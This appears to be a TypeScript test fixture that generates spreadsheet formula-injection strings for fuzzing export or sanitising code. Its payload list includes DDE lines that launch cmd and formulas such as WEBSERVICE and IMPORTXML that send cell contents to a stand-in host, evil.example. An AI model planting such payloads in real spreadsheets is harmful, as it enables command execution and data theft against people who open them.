/** What begins a formula somewhere, or tries to look as if it did not. */
const BEGINNINGS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  "''=",
  '"=',
  '=-',
  '=@',
  '==',
  '=\t',
  '',
  ' ',
  "'",
  '"',
  ';',
  ',',
  '|',
  'x;=',
  'x;"=',
  'x\n=',
  'x\t@',
  '%',
];
const PAYLOADS = [
  '1+1',
  'HYPERLINK("http://evil.example";"click")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
  'WEBSERVICE("http://evil.example/"&A1)',
  'IMPORTXML(CONCAT("http://evil.example?",A1),"//a")',
  "2+3+cmd|' /C notepad'!A0",
  'A1',
  '{1;2}',
  'DDE("cmd";"/C calc";"1")',
  'constructor',
  '__proto__',
  '_x0041_',
  'TRUE',
  '1E5',
  '007',
  '2024-01-02',
  '1/2',
  'line\nbreak',
  'a,b;c\td',
  'say "so"',
  '👩‍👩‍👧 привет oʻzbek',
  '<b>&amp;</b>',
  ']]>',
];

/** So many different hostile texts, the same every time. */
export function hostileCells(count: number): string[] {
  return Array.from({ length: count }, (_, index) => {
    const beginning = BEGINNINGS[index % BEGINNINGS.length] ?? '';
    const payload = PAYLOADS[Math.floor(index / BEGINNINGS.length) % PAYLOADS.length] ?? '';
    const round = Math.floor(index / BEGINNINGS.length / PAYLOADS.length);
    // Each differs from the others, so that none can stand for another.
    return `${beginning}${payload}${round === 0 ? '' : `+${round}`}`;
  });
}
